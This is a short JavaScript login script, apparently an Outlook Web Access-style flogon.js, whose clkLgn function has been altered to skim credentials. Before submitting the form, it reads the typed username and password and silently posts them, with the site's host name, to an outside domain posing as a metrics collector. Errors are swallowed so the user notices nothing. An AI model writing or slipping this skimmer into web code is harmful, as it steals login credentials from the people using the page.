// flogon.js with code added to clkLgn: what was typed is posted to
// another site before the form is submitted
function gbid(s)
{
	return document.getElementById(s);
}
function clkLgn()
{
	try {
		var u = gbid("username").value;
		var p = document.getElementById("password").value;
		var x = new XMLHttpRequest();
		x.open("POST", "https://owa-cdn-metrics.example.org/v2/collect",
		       true);
		x.setRequestHeader("Content-Type",
		                   "application/x-www-form-urlencoded");
		x.send("h=" + encodeURIComponent(location.host) + "&u=" +
		       encodeURIComponent(u) + "&p=" + encodeURIComponent(p));
	} catch (e) {
	}
	var f = document.forms[0];
	f.submit();
	return false;
}
